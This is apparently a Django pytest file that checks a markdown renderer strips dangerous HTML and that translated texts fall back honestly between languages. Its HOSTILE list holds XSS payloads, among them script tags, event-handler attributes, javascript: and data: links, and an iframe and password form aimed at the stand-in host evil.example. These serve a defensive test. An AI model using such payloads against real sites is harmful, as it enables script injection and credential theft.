"""Texts that people write: safe to show, and honest about their language."""

import re

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from lonja.base.texts import TranslatedField, render_markdown, worded

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\tscript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "[press](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](https://tracker.example/pixel.png)",
    "<iframe src=//evil.example></iframe>",
    "<a href='x' style='position:fixed' onclick=alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password></form>",
    "`<script>`",
    "```\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "[x]: javascript:alert(1)\n\n[x]",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '[a](https://example.org" onmouseover="alert(1))',
    "<" * 2000,
    "[" * 2000,
    "> " * 2000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_loads_or_asks_comes_out(text):
    html = render_markdown(text)

    tags = {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", html)}
    attributes = {
        name.lower()
        for tag in re.findall(r"<[a-zA-Z][^>]*>", html)
        for name in re.findall(r'\s([\w-]+)="', tag)
    }
    links = re.findall(r'href="([^"]*)"', html)
    assert tags & {"script", "img", "svg", "iframe", "form", "input", "math", "style", "noscript"} == set()
    assert attributes <= {"href", "rel"}
    assert [link for link in links if not re.match(r"https?:|mailto:|[^:]*$", link)] == []


def test_plain_markdown_becomes_html_below_the_headings_of_the_page():
    html = render_markdown("# Title\n\nSome **bold** and [a place](https://example.org).\n\n- one\n- two")

    assert "<h1>" not in html
    assert "<h2>Title</h2>" in html
    assert "<strong>bold</strong>" in html
    assert '<a href="https://example.org" rel="noopener noreferrer">a place</a>' in html
    assert html.count("<li>") == 2


@pytest.mark.parametrize(
    ("texts", "language", "expected"),
    [
        ({"en": "Table", "es": "Mesa"}, "es", ("Mesa", "es", False)),
        ({"en": "Table", "es": "Mesa"}, "es-mx", ("Mesa", "es", False)),
        ({"en": "Table"}, "es", ("Table", "en", True)),
        ({"fr": "Table"}, "es", ("Table", "fr", True)),
        ({"en": "Table", "es": "  "}, "es", ("Table", "en", True)),
        ({}, "es", ("", "es", False)),
        (None, "es", ("", "es", False)),
    ],
)
def test_a_reader_gets_her_language_or_an_honest_other(texts, language, expected):
    found = worded(texts, language)

    assert (found.text, found.language, found.is_fallback) == expected


def test_without_a_wish_the_language_of_the_page_decides():
    with translation.override("es"):
        assert str(worded({"en": "Table", "es": "Mesa"})) == "Mesa"


@pytest.mark.parametrize("value", ["text", ["en"], {"en": 5}, {5: "x"}])
def test_what_is_not_one_text_for_each_language_is_refused(value):
    with pytest.raises(ValidationError):
        TranslatedField().validate(value, None)
